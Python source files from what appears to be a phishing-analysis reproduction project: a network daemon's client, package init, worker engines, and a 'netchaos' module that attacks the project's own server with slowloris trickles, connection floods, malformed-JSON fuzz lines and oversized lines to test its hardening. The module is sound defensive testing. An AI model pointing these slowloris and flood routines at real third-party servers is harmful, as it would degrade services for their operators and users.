        self,
        work_limit: int | None = DEFAULT_WORK_LIMIT,
        deadline_seconds: float | None = None,
        clock=time.monotonic,
    ):
        self.work_limit = work_limit
        self.deadline_seconds = deadline_seconds
        self.spent = 0
        self.spent_by_kind: dict[str, int] = {}
        self._clock = clock
        self._started = clock() if deadline_seconds is not None else 0.0

    def charge(self, units: int, kind: str) -> None:
        """Consume ``units``; raises :class:`BudgetExceeded` when dry."""
        self.spent += units
        self.spent_by_kind[kind] = self.spent_by_kind.get(kind, 0) + units
        if self.work_limit is not None and self.spent > self.work_limit:
            raise BudgetExceeded(kind, self.spent, self.work_limit)
        if (
            self.deadline_seconds is not None
            and self._clock() - self._started > self.deadline_seconds
        ):
            raise BudgetExceeded("deadline", self.spent, self.deadline_seconds)


_ACTIVE = threading.local()


def current_budget() -> MessageBudget | None:
    """The budget active on this thread (None outside ``activate``)."""
    return getattr(_ACTIVE, "budget", None)


@contextmanager
def activate(budget: MessageBudget | None):
    """Install ``budget`` as this thread's active budget for the block.

    ``activate(None)`` is a cheap no-op context so callers need no
    branching; nesting restores the previous budget on exit.
    """
    previous = getattr(_ACTIVE, "budget", None)
    _ACTIVE.budget = budget
    try:
        yield budget
    finally:
        _ACTIVE.budget = previous
