"""Service mode: the always-on analysis daemon behind ``repro serve``.

The paper's CrawlerBox was not a batch job — it ran continuously for
ten months against a live reporting stream from five companies,
analyzing each message "as soon as they are tagged by experts".  This
package turns the batch engine of :mod:`repro.runner` into that shape:

- :mod:`~repro.serve.protocol` — the line-delimited JSON session
  protocol (plus minimal HTTP for ``/stats`` and ``/healthz``): raw
  RFC-822 bytes in, per-message verdict records out, every refusal
  machine-readable.
- :mod:`~repro.serve.admission` — deterministic token-bucket admission
  control on a *logical* clock (the arrival sequence number), so the
  shed set is a pure function of arrival order + budget, denominated
  in the PR-5 work units each admitted message may consume.
- :mod:`~repro.serve.scheduler` — per-reporter fair queues drained
  round-robin into micro-batches, modeling the paper's five-company
  reporting stream: one flooding reporter cannot starve the others.
- :mod:`~repro.serve.engine` — persistent thread/process worker pools
  reusing the runner's JobQueue/worker machinery, fed incrementally
  instead of from a fixed corpus.
- :mod:`~repro.serve.server` — the daemon: sessions, backpressure,
  checkpointing, rolling compaction, drain-on-SIGTERM, manifest
  lifecycle (``serving`` -> ``stopped``).
- :mod:`~repro.serve.client` — the submission client behind
  ``repro submit`` (and the tests), including hint-honoring automatic
  retry on ``overloaded``.
- :mod:`~repro.serve.netchaos` — the deterministic hostile-client
  fault engine (slowloris, floods, fuzz, flapping) that proves the
  ingress hardening holds: well-behaved reporters' records stay
  byte-identical under a hostile fleet.

Determinism contract (the PR-5 invariant, extended end to end): every
record depends only on (seed material, admission index), admission
state snapshots into the manifest at drain, and a restarted daemon
replaying the remaining transcript produces records byte-identical to
an uninterrupted daemon — and to a batch run over the same messages.
"""

from repro.serve.admission import AdmissionConfig, AdmissionController, AdmissionDecision
from repro.serve.client import ServeClient, SubmissionOutcome
from repro.serve.engine import ProcessEngine, ServeJob, ThreadEngine, build_engine
from repro.serve.netchaos import (
    CLIENT_FAULT_PROFILES,
    ChaosClient,
    ChaosReport,
    ClientFaultEngine,
    ClientFaultProfile,
    client_fault_profile,
    fuzz_corpus,
    run_chaos_fleet,
)
from repro.serve.protocol import (
    MAX_LINE_BYTES,
    LineChannel,
    ProtocolError,
    decode_line,
    encode_line,
    http_response,
    send_bounded,
)
from repro.serve.scheduler import FairScheduler
from repro.serve.server import ServeConfig, ServeDaemon

__all__ = [
    "AdmissionConfig",
    "AdmissionController",
    "AdmissionDecision",
    "CLIENT_FAULT_PROFILES",
    "ChaosClient",
    "ChaosReport",
    "ClientFaultEngine",
    "ClientFaultProfile",
    "FairScheduler",
    "LineChannel",
    "MAX_LINE_BYTES",
    "ProcessEngine",
    "ProtocolError",
    "ServeClient",
    "ServeConfig",
    "ServeDaemon",
    "ServeJob",
    "SubmissionOutcome",
    "ThreadEngine",
    "build_engine",
    "client_fault_profile",
    "decode_line",
    "encode_line",
    "fuzz_corpus",
    "http_response",
    "run_chaos_fleet",
    "send_bounded",
]
