"""A small synchronous client for the ``repro serve`` session protocol.

Used by ``repro submit``, the serve tests, and the throughput benchmark.
One :class:`ServeClient` holds one connection/session.  Submissions are
pipeline-friendly: :meth:`submit_bytes` blocks only until the daemon's
*admission* response (``accepted`` / ``overloaded`` / ``rejected``),
buffering any asynchronous ``verdict`` lines that arrive interleaved;
:meth:`wait_verdicts` then drains until every accepted submission has
its verdict (or terminal failure).
"""

from __future__ import annotations

import base64
import pathlib
import socket
import time
from dataclasses import dataclass, field

from repro.serve.protocol import MAX_LINE_BYTES, ProtocolError, encode_line, read_line

#: Admission responses (one always arrives, synchronously, per submit).
_ACK_OPS = ("accepted", "overloaded", "rejected")
#: Terminal per-submission responses (arrive asynchronously).
_FINAL_OPS = ("verdict", "failed")


@dataclass
class SubmissionOutcome:
    """Everything the daemon said about one submission."""

    client_id: str
    reporter: str
    #: 'accepted' | 'overloaded' | 'rejected' (admission), upgraded to
    #: 'verdict' | 'failed' once the terminal response lands.
    status: str = "pending"
    message_index: int | None = None
    reason: str | None = None
    retry_after_submissions: int | None = None
    #: The serialized MessageRecord dict from the verdict line.
    record: dict | None = None
    error: str | None = None
    #: Automatic resubmissions :meth:`ServeClient.submit_with_retry`
    #: spent before this outcome (0 for plain :meth:`submit_bytes`).
    retries: int = 0

    @property
    def accepted(self) -> bool:
        return self.message_index is not None

    @property
    def done(self) -> bool:
        """No further responses will arrive for this submission."""
        return self.status in ("overloaded", "rejected", "verdict", "failed")


class ServeClient:
    """One synchronous session against a running daemon."""

    def __init__(self, host: str, port: int, timeout: float = 60.0):
        self.timeout = timeout
        self._conn = socket.create_connection((host, port), timeout=timeout)
        self._stream = self._conn.makefile("rb")
        self._next_id = 0
        #: client_id -> outcome, in submission order (dicts preserve it).
        self.outcomes: dict[str, SubmissionOutcome] = {}

    # ------------------------------------------------------------------
    def submit_bytes(
        self, raw: bytes, reporter: str = "anonymous", client_id: str | None = None
    ) -> SubmissionOutcome:
        """Submit one RFC-822 message; block until the admission response."""
        if client_id is None:
            self._next_id += 1
            client_id = f"c-{self._next_id}"
        outcome = SubmissionOutcome(client_id=client_id, reporter=reporter)
        self.outcomes[client_id] = outcome
        self._send(
            {
                "op": "submit",
                "id": client_id,
                "reporter": reporter,
                "eml": base64.b64encode(raw).decode("ascii"),
            }
        )
        while not (outcome.done or outcome.status in _ACK_OPS):
            self._pump_one()
        return outcome

    def submit_file(
        self, path: str | pathlib.Path, reporter: str = "anonymous"
    ) -> SubmissionOutcome:
        return self.submit_bytes(pathlib.Path(path).read_bytes(), reporter=reporter)

    def submit_with_retry(
        self,
        raw: bytes,
        reporter: str = "anonymous",
        client_id: str | None = None,
        max_retries: int = 4,
        backoff: float = 0.0,
    ) -> SubmissionOutcome:
        """Submit, honoring the daemon's ``retry_after_submissions`` hint.

        An ``overloaded`` response carries how many arrival ticks the
        admission bucket needs to refill one message's worth of budget;
        each resubmission is itself a tick, so a lone client converges
        by simply resubmitting up to ``max_retries`` times (``backoff``
        seconds apart, scaled by the hint).  A ``None`` hint means the
        budget can never refill (e.g. readonly storage) — returned
        immediately, the caller owns that retry.  The final outcome's
        ``retries`` records the attempts spent.
        """
        retries = 0
        while True:
            outcome = self.submit_bytes(raw, reporter=reporter, client_id=client_id)
            outcome.retries = retries
            hint = outcome.retry_after_submissions
            if outcome.status != "overloaded" or hint is None or retries >= max_retries:
                return outcome
            retries += 1
            if backoff > 0.0:
                time.sleep(backoff * max(1, hint))

    def wait_verdicts(self, timeout: float | None = None) -> list[SubmissionOutcome]:
        """Block until every accepted submission has a terminal response."""
        deadline = None if timeout is None else time.monotonic() + timeout
        while any(o.accepted and not o.done for o in self.outcomes.values()):
            if deadline is not None and time.monotonic() > deadline:
                raise TimeoutError("verdicts still outstanding")
            self._pump_one()
        return list(self.outcomes.values())

    def stats(self) -> dict:
        """The daemon's live /stats payload, over the session protocol."""
        self._send({"op": "stats"})
        while True:
            payload = self._pump_one()
            if payload.get("op") == "stats":
                return payload["stats"]

    def ping(self) -> dict:
        self._send({"op": "ping"})
        while True:
            payload = self._pump_one()
            if payload.get("op") == "pong":
                return payload

    def close(self, bye: bool = True) -> None:
        """Flush pending verdicts through ``bye``/``goodbye``, then close."""
        try:
            if bye:
                self._send({"op": "bye"})
                while True:
                    payload = self._pump_one()
                    if payload.get("op") == "goodbye":
                        break
        except (OSError, ProtocolError, EOFError):
            pass
        finally:
            try:
                self._stream.close()
            except OSError:
                pass
            try:
                self._conn.close()
            except OSError:
                pass

    def __enter__(self) -> "ServeClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    # ------------------------------------------------------------------
    def _send(self, payload: dict) -> None:
        self._conn.sendall(encode_line(payload))

    def _pump_one(self) -> dict:
        """Read one server line and fold it into the outcome table."""
        line = read_line(self._stream, MAX_LINE_BYTES)
        if line is None:
            raise EOFError("daemon closed the session")
        payload = {}
        try:
            import json

            payload = json.loads(line.decode("utf-8"))
        except Exception as error:
            raise ProtocolError(f"undecodable server line: {error}") from error
        op = payload.get("op")
        outcome = self.outcomes.get(str(payload.get("id") or ""))
        if outcome is not None:
            if op in _ACK_OPS:
                outcome.status = op
                outcome.message_index = payload.get("message_index")
                outcome.reason = payload.get("reason")
                outcome.retry_after_submissions = payload.get("retry_after_submissions")
            elif op == "verdict":
                outcome.status = "verdict"
                outcome.record = payload.get("record")
            elif op == "failed":
                outcome.status = "failed"
                outcome.error = payload.get("error")
        return payload
