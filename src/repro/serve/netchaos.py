"""Deterministic hostile-client fault injection for the serve ingress.

Luo et al. (PAPERS.md) characterize the networks behind enterprise
phishing mail as bursty, abusive, and adversarial at the connection
level — and the paper's pipeline is fed by exactly that population.
PR 4 gave the simulated internet a seeded fault engine
(:mod:`repro.web.faults`) and PR 8 gave the filesystem one
(:mod:`repro.storage.faults`); this module closes the triad with the
third layer: the *clients* of ``repro serve``.  A
:class:`ClientFaultEngine` schedules hostile connection behavior and a
:class:`ChaosClient` executes it over real sockets against a live
daemon:

===============  ====================================================
kind             observable behavior
===============  ====================================================
``slowloris``    a protocol line trickled in tiny chunks, slower than
                 the daemon's line deadline — never completes
``idle_camp``    connect, then send nothing past the idle timeout
``mid_line``     half a line, then a hard disconnect
``fuzz``         one malformed protocol line (see :func:`fuzz_corpus`)
``oversized``    a line just past the daemon's per-line byte cap
``flood``        a burst of bare connections against the session cap
``flap``         drop the connection and immediately reconnect
``noop``         a well-formed ``ping`` (keeps the schedule honest)
===============  ====================================================

Determinism contract (the same discipline as the web and storage
engines): every decision is a pure function of
``(client_fault_seed, client id, op index)`` hashed through BLAKE2 into
a private :class:`random.Random` — the engine keeps no mutable request
state beyond telemetry.  The ``op index`` ordinal is supplied by the
driving :class:`ChaosClient`, so the same seed replays the same abuse
schedule on every run, which is what lets the churn bench assert that
well-behaved reporters' records are byte-identical under chaos.

Crucially, no hostile behavior ever submits a *valid* message: fuzz
lines are never admissible submissions, trickled lines never complete,
and floods never speak.  Hostile clients therefore never tick the
admission clock, so a chaos run assigns well-behaved submissions the
same admission indices — and thus byte-identical records — as a
chaos-free run over the same messages.
"""

from __future__ import annotations

import collections
import hashlib
import random
import socket
import struct
import threading
import time
from dataclasses import dataclass, field

from repro.serve.protocol import MAX_LINE_BYTES, encode_line

__all__ = [
    "CLIENT_FAULT_PROFILES",
    "ChaosClient",
    "ChaosReport",
    "ClientBehavior",
    "ClientFaultEngine",
    "ClientFaultProfile",
    "client_fault_profile",
    "fuzz_corpus",
    "run_chaos_fleet",
]


@dataclass(frozen=True)
class ClientFaultProfile:
    """Per-op behavior rates (disjoint bands of a single uniform draw).

    At most one hostile behavior fires per op slot and each keeps its
    configured probability; the leftover band is a benign ``noop``
    (a well-formed ping), so even a hostile client exercises the happy
    path between attacks — the nastiest traffic shape to harden for.
    """

    name: str = "custom"
    slowloris: float = 0.0
    idle_camp: float = 0.0
    mid_line: float = 0.0
    fuzz: float = 0.0
    oversized: float = 0.0
    flood: float = 0.0
    flap: float = 0.0
    #: Bare connections one flood op opens.
    flood_burst: int = 6
    #: Segments a slowloris line is trickled in.
    trickle_chunks: int = 8

    RATE_FIELDS = (
        "slowloris",
        "idle_camp",
        "mid_line",
        "fuzz",
        "oversized",
        "flood",
        "flap",
    )

    @property
    def active(self) -> bool:
        """Any hostile behavior has a non-zero probability."""
        return any(getattr(self, name) > 0.0 for name in self.RATE_FIELDS)


#: The presets (``--client-faults {off,light,heavy,hostile}``).
CLIENT_FAULT_PROFILES: dict[str, ClientFaultProfile] = {
    "off": ClientFaultProfile(name="off"),
    "light": ClientFaultProfile(
        name="light",
        slowloris=0.02,
        idle_camp=0.02,
        mid_line=0.04,
        fuzz=0.08,
        oversized=0.02,
        flood=0.02,
        flap=0.04,
        flood_burst=4,
    ),
    "heavy": ClientFaultProfile(
        name="heavy",
        slowloris=0.06,
        idle_camp=0.05,
        mid_line=0.08,
        fuzz=0.18,
        oversized=0.04,
        flood=0.05,
        flap=0.08,
        flood_burst=6,
    ),
    "hostile": ClientFaultProfile(
        name="hostile",
        slowloris=0.12,
        idle_camp=0.08,
        mid_line=0.12,
        fuzz=0.25,
        oversized=0.08,
        flood=0.10,
        flap=0.12,
        flood_burst=8,
    ),
}


def client_fault_profile(name: str) -> ClientFaultProfile:
    """Look up a preset by name (``off``/``light``/``heavy``/``hostile``)."""
    try:
        return CLIENT_FAULT_PROFILES[name]
    except KeyError:
        raise ValueError(
            f"unknown client fault profile {name!r}; "
            f"expected one of {sorted(CLIENT_FAULT_PROFILES)}"
        ) from None


@dataclass(frozen=True)
class ClientBehavior:
    """One scheduled op for one hostile client: what to do, with what."""

    kind: str
    client_id: str
    op_index: int
    #: Line bytes to (partially) send — fuzz / slowloris / mid_line.
    payload: bytes = b""
    #: Trickle segments for ``slowloris``.
    chunks: int = 1
    #: Bare connections for ``flood``.
    burst: int = 0
    #: Idle dwell for ``idle_camp``, as a multiple of the daemon's idle
    #: timeout (the driver owns absolute timing, the engine the shape).
    hold_factor: float = 0.0
    #: Target byte size for ``oversized`` (driver adds the daemon cap).
    overshoot: int = 0


# ----------------------------------------------------------------------
# The fuzz corpus: every way a protocol line can be malformed
# ----------------------------------------------------------------------
#: Shape vocabulary for :func:`fuzz_corpus` / ``fuzz`` ops.  Every shape
#: must draw a machine-readable ``error``/``rejected`` response or a
#: clean close — never a hang, a thread death, or a silent drop.
FUZZ_SHAPES = (
    "truncated_json",
    "binary",
    "deep_nesting",
    "non_dict",
    "missing_op",
    "non_string_op",
    "control_bytes",
    "http_like",
    "empty_object",
)


def _fuzz_payload(rng: random.Random) -> bytes:
    """One malformed protocol line (newline-free), drawn from ``rng``."""
    shape = rng.choice(FUZZ_SHAPES)
    if shape == "truncated_json":
        whole = encode_line(
            {"op": "submit", "id": f"t-{rng.randrange(1 << 16)}", "eml": "QUFBQQ=="}
        ).rstrip(b"\n")
        cut = rng.randrange(1, max(2, len(whole) - 1))
        return whole[:cut]
    if shape == "binary":
        blob = rng.randbytes(rng.randrange(8, 256))
        return blob.replace(b"\n", b"\xff")
    if shape == "deep_nesting":
        # Deep enough that json.loads recurses past the interpreter's
        # stack budget: the daemon must answer with a protocol error,
        # not die of RecursionError.
        depth = rng.randrange(2000, 6000)
        return b"[" * depth + b"]" * depth
    if shape == "non_dict":
        return rng.choice(
            [b"[1,2,3]", b'"just a string"', b"42", b"true", b"null"]
        )
    if shape == "missing_op":
        return b'{"id": "no-op-here", "reporter": "chaos"}'
    if shape == "non_string_op":
        return b'{"op": %d}' % rng.randrange(1 << 10)
    if shape == "control_bytes":
        return b"\x00\x01\x02submit\x7f" + rng.randbytes(4).replace(b"\n", b"\xfe")
    if shape == "http_like":
        # A POST probe mid-session: must draw a JSON protocol error (as
        # the first line of a connection it is answered with HTTP 405).
        return b"POST /submit HTTP/1.1"
    return b"{}"  # empty_object: decodes, but has no op


def fuzz_corpus(seed: int, count: int = 64) -> list[bytes]:
    """A deterministic corpus of ``count`` malformed protocol lines.

    Pure function of ``(seed, index)`` — the i-th line is the same on
    every machine, so a fuzz failure reproduces from its seed alone.
    """
    lines = []
    for index in range(count):
        digest = hashlib.blake2b(
            f"fuzz:{seed}:{index}".encode("utf-8"), digest_size=8
        ).digest()
        lines.append(_fuzz_payload(random.Random(int.from_bytes(digest, "big"))))
    return lines


# ----------------------------------------------------------------------
# The engine: a pure behavior schedule
# ----------------------------------------------------------------------
class ClientFaultEngine:
    """Seeded scheduler for hostile-client behavior.

    Stateless by construction: :meth:`behavior` is a pure function of
    ``(seed, client_id, op_index)``, so two engines built with the same
    seed produce identical schedules and a driver can replay any op in
    isolation.  The only mutable state is telemetry (``injected``).
    """

    def __init__(self, profile: ClientFaultProfile | None = None, seed: int = 0):
        self.profile = profile or CLIENT_FAULT_PROFILES["off"]
        self.seed = seed
        #: Telemetry: behavior kind -> times scheduled.
        self.injected: dict[str, int] = {}

    @property
    def active(self) -> bool:
        return self.profile.active

    def _rng(self, client_id: str, op_index: int) -> random.Random:
        digest = hashlib.blake2b(
            f"{self.seed}:{client_id}:{op_index}".encode("utf-8"),
            digest_size=8,
        ).digest()
        return random.Random(int.from_bytes(digest, "big"))

    def _note(self, kind: str) -> None:
        self.injected[kind] = self.injected.get(kind, 0) + 1

    def behavior(self, client_id: str, op_index: int) -> ClientBehavior:
        """The scheduled behavior for one ``(client, op)`` coordinate."""
        rng = self._rng(client_id, op_index)
        roll = rng.random()
        kind = "noop"
        for name in self.profile.RATE_FIELDS:
            rate = getattr(self.profile, name)
            if roll < rate:
                kind = name
                break
            roll -= rate
        self._note(kind)
        if kind == "fuzz":
            return ClientBehavior(kind, client_id, op_index, payload=_fuzz_payload(rng))
        if kind == "slowloris":
            # The trickled line is itself junk, so even a daemon that
            # (wrongly) let it complete could never admit it.
            return ClientBehavior(
                kind,
                client_id,
                op_index,
                payload=_fuzz_payload(rng) + b"\n",
                chunks=max(2, self.profile.trickle_chunks),
            )
        if kind == "mid_line":
            return ClientBehavior(
                kind, client_id, op_index,
                payload=b'{"op": "submit", "id": "never-fini',
            )
        if kind == "oversized":
            return ClientBehavior(
                kind, client_id, op_index, overshoot=rng.randrange(1, 4096)
            )
        if kind == "flood":
            return ClientBehavior(
                kind, client_id, op_index, burst=max(1, self.profile.flood_burst)
            )
        if kind == "idle_camp":
            return ClientBehavior(
                kind, client_id, op_index, hold_factor=1.2 + rng.random()
            )
        return ClientBehavior(kind, client_id, op_index)


# ----------------------------------------------------------------------
# The driver: real sockets against a live daemon
# ----------------------------------------------------------------------
@dataclass
class ChaosReport:
    """What one hostile client did, and what the daemon answered."""

    client_id: str
    ops: collections.Counter = field(default_factory=collections.Counter)
    #: Server responses observed, keyed by their ``op`` field, plus the
    #: synthetic keys ``closed`` (EOF where a response was possible) and
    #: ``no_response`` (a probe the daemon ignored, e.g. an under-cap
    #: flood connection the client abandoned first).
    responses: collections.Counter = field(default_factory=collections.Counter)
    #: Contract violations observed client-side.  The only way a chaos
    #: run can put one here is the daemon *admitting* hostile junk —
    #: which would shift well-behaved admission indices and break the
    #: byte-identity invariant — so the churn bench asserts it empty.
    anomalies: list[str] = field(default_factory=list)

    def merge(self, other: "ChaosReport") -> None:
        self.ops.update(other.ops)
        self.responses.update(other.responses)
        self.anomalies.extend(other.anomalies)


class ChaosClient:
    """Executes one hostile client's schedule against a live daemon.

    Client-side sockets are blocking with short timeouts (``io_timeout``)
    so a daemon that wrongly stops answering shows up as timeouts in the
    report, never as a hung bench.  ``line_deadline`` / ``idle_timeout``
    mirror the daemon's configured deadlines: the slowloris trickle is
    paced to overrun the former, the camp dwell to overrun the latter.
    """

    def __init__(
        self,
        host: str,
        port: int,
        engine: ClientFaultEngine,
        client_id: str,
        line_deadline: float = 0.5,
        idle_timeout: float = 0.5,
        io_timeout: float = 10.0,
        max_line_bytes: int = MAX_LINE_BYTES,
        max_hold: float = 5.0,
    ):
        self.host = host
        self.port = port
        self.engine = engine
        self.client_id = client_id
        self.line_deadline = line_deadline
        self.idle_timeout = idle_timeout
        self.io_timeout = io_timeout
        self.max_line_bytes = max_line_bytes
        self.max_hold = max_hold
        self.report = ChaosReport(client_id)
        self._conn: socket.socket | None = None
        self._stream = None

    # -- connection plumbing -------------------------------------------
    def _connect(self) -> bool:
        self._disconnect()
        try:
            conn = socket.create_connection(
                (self.host, self.port), timeout=self.io_timeout
            )
        except OSError:
            self.report.responses["connect_refused"] += 1
            return False
        self._conn = conn
        self._stream = conn.makefile("rb")
        return True

    def _disconnect(self, hard: bool = False) -> None:
        if self._conn is None:
            return
        try:
            if hard:
                # RST instead of FIN: the peer sees a dead socket, not a
                # polite shutdown — the shape that trips dead-peer
                # detection on the daemon's verdict-send path.
                self._conn.setsockopt(
                    socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
                )
        except OSError:
            pass
        for closer in (self._stream, self._conn):
            try:
                if closer is not None:
                    closer.close()
            except OSError:
                pass
        self._conn = self._stream = None

    def _ensure_connected(self) -> bool:
        return self._conn is not None or self._connect()

    def _send(self, data: bytes) -> bool:
        if self._conn is None:
            return False
        try:
            self._conn.sendall(data)
            return True
        except OSError:
            self.report.responses["closed"] += 1
            self._disconnect()
            return False

    def _read_response(self) -> dict | None:
        """One server line -> its payload; None on close/timeout/junk."""
        if self._stream is None:
            return None
        try:
            line = self._stream.readline(self.max_line_bytes)
        except OSError:
            self._disconnect()
            self.report.responses["closed"] += 1
            return None
        if not line:
            self._disconnect()
            self.report.responses["closed"] += 1
            return None
        try:
            import json

            payload = json.loads(line.decode("utf-8"))
        except Exception:
            self.report.responses["unparseable"] += 1
            return None
        op = payload.get("op") if isinstance(payload, dict) else None
        self.report.responses[str(op)] += 1
        if op == "accepted":
            self.report.anomalies.append(
                f"{self.client_id}: hostile line was ADMITTED at op — "
                f"admission indices are no longer chaos-invariant"
            )
        return payload if isinstance(payload, dict) else None

    # -- behaviors ------------------------------------------------------
    def run(self, ops: int) -> ChaosReport:
        for op_index in range(ops):
            behavior = self.engine.behavior(self.client_id, op_index)
            self.report.ops[behavior.kind] += 1
            try:
                self._execute(behavior)
            except OSError:
                self.report.responses["oserror"] += 1
                self._disconnect()
        self._disconnect()
        return self.report

    def _execute(self, behavior: ClientBehavior) -> None:
        kind = behavior.kind
        if kind == "noop":
            if self._ensure_connected() and self._send(encode_line({"op": "ping"})):
                self._read_response()
        elif kind == "fuzz":
            if self._ensure_connected() and self._send(behavior.payload + b"\n"):
                self._read_response()
        elif kind == "oversized":
            if self._ensure_connected():
                line = b"x" * (self.max_line_bytes + behavior.overshoot) + b"\n"
                if self._send(line):
                    self._read_response()
                # The daemon cannot resync after an oversized line; it
                # answers and closes.  Reconnect lazily next op.
                self._disconnect()
        elif kind == "slowloris":
            if self._ensure_connected():
                self._trickle(behavior)
        elif kind == "idle_camp":
            if self._ensure_connected():
                dwell = min(self.max_hold, behavior.hold_factor * self.idle_timeout)
                time.sleep(dwell)
                # The daemon should have reaped us by now: a ping must
                # meet a closed socket (or an error line, then close).
                if self._send(encode_line({"op": "ping"})):
                    self._read_response()
        elif kind == "mid_line":
            if self._ensure_connected():
                self._send(behavior.payload)
                self._disconnect(hard=True)
        elif kind == "flap":
            self._disconnect()
            self._connect()
        elif kind == "flood":
            self._flood(behavior.burst)

    def _trickle(self, behavior: ClientBehavior) -> None:
        """Send a line slower than the daemon's line deadline allows."""
        payload, chunks = behavior.payload, behavior.chunks
        step = max(1, len(payload) // chunks)
        # Pace the gaps so the full line takes ~2x the line deadline:
        # the daemon must cut us off mid-trickle.
        gap = (2.0 * self.line_deadline) / max(1, chunks)
        for offset in range(0, len(payload), step):
            if not self._send(payload[offset : offset + step]):
                return  # reaped mid-trickle: exactly what we want
            time.sleep(gap)
        # The daemon let a whole slow line through: read its answer
        # (the payload is junk, so at worst it costs us a strike).
        self._read_response()

    def _flood(self, burst: int) -> None:
        """Open a burst of bare connections; collect busy refusals."""
        probes: list[socket.socket] = []
        for _ in range(burst):
            try:
                probes.append(
                    socket.create_connection((self.host, self.port), timeout=self.io_timeout)
                )
            except OSError:
                self.report.responses["connect_refused"] += 1
        for probe in probes:
            try:
                probe.settimeout(max(0.2, self.line_deadline))
                line = probe.makefile("rb").readline(4096)
            except OSError:
                line = b""
            if b'"busy"' in line:
                self.report.responses["busy"] += 1
            elif line:
                self.report.responses["unparseable"] += 1
            else:
                self.report.responses["no_response"] += 1
            try:
                probe.close()
            except OSError:
                pass


def run_chaos_fleet(
    host: str,
    port: int,
    engine: ClientFaultEngine,
    clients: int,
    ops_per_client: int,
    client_prefix: str = "chaos",
    **client_kwargs,
) -> list[ChaosReport]:
    """Run ``clients`` hostile clients concurrently; their reports.

    Each client gets a stable id (``chaos-0`` …), so the fleet's abuse
    schedule is a pure function of the engine seed even though the
    clients interleave freely on the wire — hostile ops never touch the
    admission clock, which is why interleaving is harmless.
    """
    runners = [
        ChaosClient(host, port, engine, f"{client_prefix}-{index}", **client_kwargs)
        for index in range(clients)
    ]
    threads = [
        threading.Thread(target=runner.run, args=(ops_per_client,), daemon=True)
        for runner in runners
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return [runner.report for runner in runners]
