"""Persistent analysis engines: the runner's workers, fed forever.

The batch :class:`~repro.runner.runner.CorpusRunner` takes a complete
message list, runs it to exhaustion, and releases its pool.  A daemon
needs the same two backends — GIL-bound threads and fork-based
processes — but *persistent*: built once at startup, fed micro-batches
for as long as the daemon lives, and drained on shutdown.

Both engines reuse the existing machinery rather than duplicating it:

- :class:`ThreadEngine` is the runner's :class:`~repro.runner.queue.
  JobQueue` + :func:`~repro.runner.workers.spawn_workers` combination,
  with each worker holding a private CrawlerBox over the shared world.
- :class:`ProcessEngine` drives the same ``_worker_main`` loop as the
  batch :class:`~repro.runner.executor.ProcessPool`, on the same
  warm :class:`~repro.runner.pool.WorkerPool` (so a daemon restart with
  an unchanged config reuses the workers' built worlds), using its
  service-mode ``eml-batch`` command: raw RFC-822 bytes ship to the
  worker, which ingests and analyzes them against the world it rebuilt
  from the picklable :class:`~repro.runner.executor.RunnerConfig`.

Results travel the record data plane: workers render each record to its
final checkpoint wire form and the engine hands the daemon a
:class:`~repro.core.export.WireRecord` — bytes the daemon appends and
splices into the verdict response without re-serializing.  Worker-local
:class:`~repro.runner.stats.RunningStats` shards arrive through the
optional ``on_stats`` callback (process engine only; the thread engine
already holds the parsed record, so the daemon folds it directly).

Engines are deliberately policy-free: they report each attempt's
outcome (a wire record or the raised exception) through one callback,
and the daemon owns retries, checkpointing, stats, and responses.  A
worker-process death surfaces as a
:class:`~repro.runner.executor.WorkerCrash` per in-flight submission —
the same transient the batch pool reports — and a replacement worker is
spawned.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass, field
from typing import Callable

from repro.core.export import WireRecord
import time

from repro.runner.executor import RunnerConfig, WorkerCrash, _worker_main
from repro.runner.pool import RespawnGovernor, acquire_pool, release_pool, unpack_frame
from repro.runner.queue import Job, JobQueue, QueueClosed
from repro.runner.stats import RunningStats
from repro.runner.workers import spawn_workers

#: Seconds to wait for workers/threads to wind down on stop.
_STOP_GRACE = 5.0


@dataclass
class ServeJob:
    """One admitted submission travelling through an engine."""

    #: The admission index — the daemon-wide message index this record
    #: is seeded from (and checkpointed under).
    index: int
    reporter: str
    #: Client-chosen correlation token, echoed on every response.
    client_id: str
    #: The raw RFC-822 submission (what process workers ingest).
    eml_bytes: bytes
    #: Parent-side parse of the same bytes (what thread workers analyze).
    message: object = None
    #: The session to stream the verdict back to (None once it closed).
    session: object = None
    #: Wall clock at admission, for latency stats only — never records.
    submitted_at: float = 0.0
    attempts: int = 0
    error_history: list = field(default_factory=list)


#: on_result(job, wire_record, error): exactly one of the pair is None.
OnResult = Callable[[ServeJob, WireRecord | None, BaseException | None], None]

#: on_stats(shard): a worker-local RunningStats covering delivered records.
OnStats = Callable[[RunningStats], None]


class ThreadEngine:
    """N persistent worker threads over the runner's JobQueue."""

    name = "thread"
    #: The daemon folds stats from the records it already holds.
    provides_stats = False

    def __init__(self, box_factory: Callable[[int], object], jobs: int, on_result: OnResult):
        self.on_result = on_result
        self._queue = JobQueue()  # unbounded: admission already gates intake
        self._workers = spawn_workers(jobs, self._queue, box_factory, self._handle)

    def submit(self, jobs: list[ServeJob]) -> None:
        for job in jobs:
            self._queue.put(Job(index=job.index, payload=job))

    def _handle(self, worker, queue_job: Job) -> None:
        job: ServeJob = queue_job.payload
        try:
            record, wire = worker.box.analyze_to_wire(
                job.message, message_index=job.index
            )
        except BaseException as error:  # noqa: BLE001 - the daemon owns retry policy
            self.on_result(job, None, error)
        else:
            self.on_result(job, WireRecord(wire, record), None)

    def stop(self) -> None:
        try:
            self._queue.close()
        except QueueClosed:
            pass
        for worker in self._workers:
            worker.join(timeout=_STOP_GRACE)


class ProcessEngine:
    """N persistent worker processes speaking ``eml-batch``.

    Built on the shared :class:`~repro.runner.pool.WorkerPool`: results
    arrive as batched wire frames, worker deaths as sentinel-driven
    ``worker-died`` messages (no liveness polling), and :meth:`stop`
    parks the pool warm for the next engine or batch run with the same
    config.
    """

    name = "process"
    provides_stats = True

    def __init__(
        self,
        config: RunnerConfig,
        jobs: int,
        on_result: OnResult,
        batch_size: int = 8,
        on_fatal: Callable[[str], None] | None = None,
        on_stats: OnStats | None = None,
    ):
        self.config = config
        self.jobs = jobs
        self.on_result = on_result
        self.on_stats = on_stats
        self.batch_size = max(1, batch_size)
        self.on_fatal = on_fatal or (lambda reason: None)
        self._lock = threading.Lock()
        self._inflight: dict[int, set[int]] = {}
        self._jobs: dict[int, ServeJob] = {}
        self._pending: list[ServeJob] = []
